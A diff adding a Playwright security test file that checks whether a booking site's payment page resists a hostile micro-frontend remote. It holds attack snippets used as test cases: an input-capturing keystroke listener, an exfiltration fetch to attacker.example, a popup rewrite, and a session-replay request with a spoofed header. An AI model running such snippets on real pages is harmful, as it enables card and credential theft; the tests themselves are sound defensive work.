@@ -1,0 +1,133 @@
+import { cards } from '../fixtures/cards.ts';
+import { expect, test } from '../support/test.ts';
+
+/** What a remote that went bad could do: run any code in the documents that load remotes. */
+test.describe('a hostile remote (reliability facts 1.3, architecture 10)', () => {
+  test('cannot read the card: its code is not on the payment page, and the frame is out of reach', async ({
+    page,
+    journey,
+  }) => {
+    await page.route(/\/r\/mfe-flights\/.*\.js$/, async (route) => {
+      const reply = await route.fetch();
+      await route.fulfill({ response: reply });
+    });
+    await journey.toSummary({ to: 'BCN' });
+    await page.evaluate(() => {
+      const spy = { typed: '' };
+      Object.assign(window, { spy });
+      document.addEventListener(
+        'input',
+        (event) => {
+          if (event.target instanceof HTMLInputElement) spy.typed += event.target.value;
+        },
+        true,
+      );
+    });
+    await journey.summary.fillContact();
+    expect(await page.evaluate(() => Reflect.get(window, 'spy').typed)).toContain('example.com');
+
+    const { lucia } = await import('../fixtures/travellers.ts');
+    await journey.summary.fillTraveller(1, lucia);
+    const remoteFiles: string[] = [];
+    page.on('request', (request) => {
+      if (request.url().includes('/r/mfe-')) remoteFiles.push(request.url());
+    });
+    await journey.summary.goToPayment();
+    await journey.billing.fillAddress();
+    await journey.billing.fillCard(cards.accepted);
+
+    expect(await page.evaluate(() => 'spy' in window), 'the document is a new one').toBe(false);
+    expect(remoteFiles, 'no file of any remote on the payment page').toEqual([]);
+    const seen = await page.evaluate(() => {
+      const frame = document.querySelector('iframe');
+      let inside: string;
+      try {
+        inside = String(frame?.contentDocument?.body.innerHTML ?? null);
+      } catch (error) {
+        inside = String(error);
+      }
+      const inputs = [...document.querySelectorAll('input')].map((input) => input.value).join(' ');
+      return { inside, inputs, origin: new URL(frame?.src ?? '').origin };
+    });
+    expect(seen.inside).toBe('null');
+    expect(seen.inputs).not.toContain('4242');
+    expect(seen.origin).not.toBe(new URL(page.url()).origin);
+  });
+
+  test('cannot open the payment page and rewrite it (COOP)', async ({ page, journey, context }) => {
+    await journey.toSummary({ to: 'BCN' });
+    const opened = context.waitForEvent('page');
+    await page.evaluate(() => {
+      Object.assign(window, { victim: window.open('/es/booking/BillingSummary', 'victim') });
+    });
+    const popup = await opened;
+    await popup.waitForLoadState();
+    await expect
+      .poll(() =>
+        page.evaluate(() => {
+          const victim = Reflect.get(window, 'victim') as Window;
+          try {
+            if (victim.closed) return 'severed';
+            victim.document.body.innerHTML = '<h1>stolen</h1>';
+            return 'rewritten';
+          } catch (error) {
+            return String(error);
+          }
+        }),
+      )
+      .toBe('severed');
+    await expect(popup.getByRole('heading', { name: 'stolen' })).toHaveCount(0);
+    expect(await popup.evaluate(() => window.opener)).toBeNull();
+  });
+
+  test('cannot put the payment page into a frame of its own', async ({ page, journey, watch }) => {
+    watch.allow(
+      /frame-ancestors|Refused to (frame|display)|violates the following Content Security Policy|chrome-error/,
+    );
+    await journey.openHome();
+    const reply = await page.request.get('/es/booking/BillingSummary');
+    expect(reply.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
+    expect(reply.headers()['cross-origin-opener-policy']).toBe('same-origin');
+    expect(reply.headers()['cache-control']).toContain('no-store');
+    const home = await page.request.get('/es');
+    expect(home.headers()['content-security-policy']).toContain("script-src 'self'");
+    expect(home.headers()['content-security-policy']).not.toContain('unsafe-inline');
+    expect(home.headers()['content-security-policy']).not.toContain('unsafe-eval');
+  });
+
+  test('cannot send what it sees to another host', async ({ page, journey, watch }) => {
+    watch.allow(/Content Security Policy|Failed to fetch|Refused to connect/);
+    await journey.openHome();
+    const refused = await page.evaluate(() =>
+      fetch('https://attacker.example/?c=1').then(
+        () => 'sent',
+        () => 'refused',
+      ),
+    );
+    expect(refused).toBe('refused');
+  });
+});
+
+test('an agentId from elsewhere opens nothing without its cookie (B-13, architecture 10)', async ({
+  page,
+  journey,
+  playwright,
+  baseURL,
+}) => {
+  const start = page.waitForRequest(/\/api\/user\/session\/start/);
+  await journey.toSummary({ to: 'BCN' });
+  const { agentId } = (await start).postDataJSON() as { agentId: string };
+  expect(agentId).toMatch(/.{8,}/);
+  await journey.summary.fillContact();
+
+  const stranger = await playwright.request.newContext({
+    ...(baseURL && { baseURL }),
+    extraHTTPHeaders: { origin: baseURL ?? '', 'x-forwarded-for': '10.66.66.66' },
+  });
+  for (const path of ['order-view', 'card-handle', 'customer']) {
+    const reply = await stranger.post(`/api/user/session/${path}`, { data: { agentId } });
+    expect([400, 401, 403], path).toContain(reply.status());
+    expect(await reply.text()).not.toContain('example.com');
+  }
+  await stranger.dispose();
+});
